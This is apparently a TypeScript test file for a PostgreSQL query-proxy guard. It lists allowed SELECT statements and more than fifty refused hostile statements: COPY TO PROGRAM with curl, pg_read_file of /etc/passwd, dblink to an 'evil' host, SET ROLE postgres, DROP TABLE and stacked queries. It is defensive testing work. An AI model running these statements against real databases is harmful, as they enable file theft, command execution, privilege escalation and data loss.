// The first layer of the query proxy on its own: PostgreSQL's parser (libpg-query) and the allowlist.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { checkStatement, loadSqlParser } from '#shared/domain/query-proxy-guard.ts';
import { HttpError } from '#shared/http/errors.ts';

const ctx = { schema: 'req_0123456789abcdef0123456789abcdef', views: new Set(['orders', 'products']) };

const refusedCode = (text: string): string => {
  try {
    checkStatement(text, ctx);
    return 'accepted';
  } catch (err) {
    assert.ok(err instanceof HttpError);
    assert.equal(err.status, 400);
    return err.code;
  }
};

const ALLOWED = [
  'SELECT * FROM orders',
  'select id, total from orders where total > 100 order by total desc limit 10',
  `SELECT * FROM ${ctx.schema}.orders`,
  'SELECT region, count(*), sum(total), avg(total)::numeric(10,2) FROM orders GROUP BY region HAVING count(*) > 1',
  'SELECT o.id, p.name FROM orders o JOIN products p ON p.id = o.product_id',
  'WITH big AS (SELECT * FROM orders WHERE total > 10) SELECT count(*) FROM big',
  'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) SELECT * FROM n',
  "SELECT date_trunc('month', ordered_at) AS m, count(*) FROM orders GROUP BY 1 ORDER BY 1",
  'SELECT id, row_number() OVER (PARTITION BY region ORDER BY total DESC) FROM orders',
  "SELECT coalesce(status, 'none'), nullif(region, ''), greatest(1, 2), CASE WHEN total > 1 THEN 'a' ELSE 'b' END FROM orders",
  'SELECT extract(year FROM ordered_at), lower(status) FROM orders',
  'SELECT * FROM orders WHERE id IN (SELECT id FROM products)',
  'SELECT 1',
  'VALUES (1), (2)',
  'TABLE orders',
  "SELECT 'ü' AS ünïcode FROM orders;",
  'SELECT * FROM orders -- trailing comment',
];

const REFUSED: Array<[string, string]> = [
  ['DELETE FROM orders', 'sql_refused'],
  ['UPDATE orders SET total = 0', 'sql_refused'],
  ['INSERT INTO orders VALUES (1)', 'sql_refused'],
  ['MERGE INTO orders o USING products p ON o.id = p.id WHEN MATCHED THEN DELETE', 'sql_refused'],
  ['DROP TABLE orders', 'sql_refused'],
  ['CREATE TABLE x (a int)', 'sql_refused'],
  ['CREATE VIEW v AS SELECT 1', 'sql_refused'],
  ['ALTER ROLE current_user SUPERUSER', 'sql_refused'],
  ['GRANT ALL ON orders TO public', 'sql_refused'],
  ['TRUNCATE orders', 'sql_refused'],
  ['COPY orders TO STDOUT', 'sql_refused'],
  ["COPY orders TO PROGRAM 'curl example.com'", 'sql_refused'],
  ['SET ROLE postgres', 'sql_refused'],
  ['SET SESSION AUTHORIZATION postgres', 'sql_refused'],
  ['RESET ROLE', 'sql_refused'],
  ['SET LOCAL statement_timeout = 0', 'sql_refused'],
  ['SELECT 1; SELECT 2', 'sql_refused'],
  ['SELECT 1; COMMIT; DROP TABLE orders', 'sql_refused'],
  ['COMMIT', 'sql_refused'],
  ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'sql_refused'],
  ['WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u', 'sql_refused'],
  ['SELECT * INTO copy_of_orders FROM orders', 'sql_refused'],
  ['SELECT * FROM orders FOR UPDATE', 'sql_refused'],
  ['SELECT * FROM orders FOR KEY SHARE', 'sql_refused'],
  ['SELECT * FROM demo.orders', 'sql_refused'],
  ['SELECT * FROM public.users', 'sql_refused'],
  ['SELECT * FROM users', 'sql_refused'],
  ['SELECT * FROM pg_authid', 'sql_refused'],
  ['SELECT * FROM pg_catalog.pg_class', 'sql_refused'],
  ['SELECT * FROM information_schema.columns', 'sql_refused'],
  ['SELECT * FROM otherdb.req_x.orders', 'sql_refused'],
  ['SELECT * FROM req_ffffffffffffffffffffffffffffffff.orders', 'sql_refused'],
  [`SELECT * FROM ${ctx.schema}.notaview`, 'sql_refused'],
  ["SELECT pg_read_file('/etc/passwd')", 'sql_refused'],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'sql_refused'],
  ["SELECT lo_import('/etc/passwd')", 'sql_refused'],
  ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", 'sql_refused'],
  ['SELECT pg_sleep(100)', 'sql_refused'],
  ["SELECT pg_sleep_for('1 hour')", 'sql_refused'],
  ["SELECT set_config('role', 'postgres', false)", 'sql_refused'],
  ["SELECT current_setting('data_directory')", 'sql_refused'],
  ['SELECT pg_terminate_backend(pid) FROM orders', 'sql_refused'],
  ['SELECT public.evil()', 'sql_refused'],
  ["SELECT 'pg_authid'::regclass", 'sql_refused'],
  ["SELECT CAST('x' AS regproc)", 'sql_refused'],
  ['SELECT * FROM generate_series(1, 10)', 'sql_refused'],
  ['SELECT * FROM orders TABLESAMPLE BERNOULLI (10)', 'sql_refused'],
  ["SELECT xmlparse(document '<a/>')", 'sql_refused'],
  ["SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x int)", 'sql_refused'],
  ['SELECT $1', 'sql_refused'],
  ['EXPLAIN SELECT * FROM orders', 'sql_refused'],
  ['DO $$ BEGIN END $$', 'sql_refused'],
  ['PREPARE p AS SELECT 1', 'sql_refused'],
  ['LISTEN ch', 'sql_refused'],
  ['LOCK TABLE orders', 'sql_refused'],
  ['VACUUM', 'sql_refused'],
  ['', 'sql_refused'],
  [';', 'sql_refused'],
  ['SELEC 1', 'sql_syntax_error'],
  ["SELECT 'unterminated", 'sql_syntax_error'],
  ['SELECT 1 /* unterminated', 'sql_syntax_error'],
  ['SELECT 1\0', 'sql_refused'],
];

describe('SQL guard', () => {
  before(() => loadSqlParser());

  test(`accepts plain SELECTs over the request's views (${ALLOWED.length})`, () => {
    for (const text of ALLOWED) assert.equal(refusedCode(text), 'accepted', `statement: ${text}`);
  });

  test(`refuses ${REFUSED.length} hostile or non-SELECT statements before execution`, () => {
    assert.ok(REFUSED.length >= 50);
    for (const [text, code] of REFUSED)
      assert.equal(refusedCode(text), code, `statement: ${JSON.stringify(text)}`);
  });

  test('returns exactly the one statement, without the trailing semicolon, even after non-ASCII text', () => {
    assert.equal(checkStatement("SELECT 'ü' FROM orders;  ", ctx), "SELECT 'ü' FROM orders");
    assert.equal(checkStatement('  SELECT 1  ', ctx), 'SELECT 1');
  });

  test('the refusal names the reason', () => {
    assert.throws(() => checkStatement('SELECT pg_sleep(1)', ctx), /function pg_sleep is not allowed/);
    assert.throws(
      () => checkStatement('SELECT * FROM demo.x', ctx),
      /relation demo\.x is outside this request/,
    );
    assert.throws(() => checkStatement('SELECT 1; SELECT 2', ctx), /one statement at a time/);
  });
});
